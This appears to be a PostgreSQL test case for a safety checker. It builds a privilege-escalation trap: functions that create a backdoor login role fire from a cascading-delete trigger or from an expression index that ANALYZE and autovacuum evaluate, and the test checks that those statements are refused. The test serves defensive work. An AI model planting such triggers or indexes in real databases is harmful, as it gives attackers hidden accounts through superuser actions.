-- trap: code that waits in the tables of an owner that makes roles: behind a foreign key, and in an index that autovacuum looks at
-- versions: 14 15 16 17
-- outcome: green
-- says: role po_maker, CREATEROLE
-- says: role po_maker, member of rds_superuser
-- refused: app | shop | DELETE FROM po.parent
-- refused: devops | shop | SET po.armed = 'yes'; ANALYZE po.counted
-- allowed: app | shop | UPDATE po.parent SET id = 1
-- as: dba in postgres
CREATE ROLE po_maker CREATEROLE IN ROLE rds_superuser;
-- as: superuser in shop
GRANT CREATE ON DATABASE shop TO po_maker;
SET ROLE po_maker;
CREATE SCHEMA po;
CREATE FUNCTION po.plant() RETURNS void LANGUAGE plpgsql AS 'BEGIN CREATE ROLE po_backdoor LOGIN; END';
CREATE FUNCTION po.calm(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS
    'BEGIN IF current_setting(''po.armed'', true) = ''yes'' THEN PERFORM po.plant(); END IF; RETURN n; END';
CREATE TABLE po.counted (n int);
INSERT INTO po.counted SELECT generate_series(1, 50);
CREATE INDEX ON po.counted (po.calm(n));
CREATE TABLE po.parent (id int PRIMARY KEY);
CREATE TABLE po.child (id int PRIMARY KEY REFERENCES po.parent ON DELETE CASCADE);
INSERT INTO po.parent VALUES (1);
INSERT INTO po.child VALUES (1);
CREATE FUNCTION po.on_delete() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM po.plant(); RETURN OLD; END';
CREATE TRIGGER waits BEFORE DELETE ON po.child FOR EACH ROW EXECUTE FUNCTION po.on_delete();
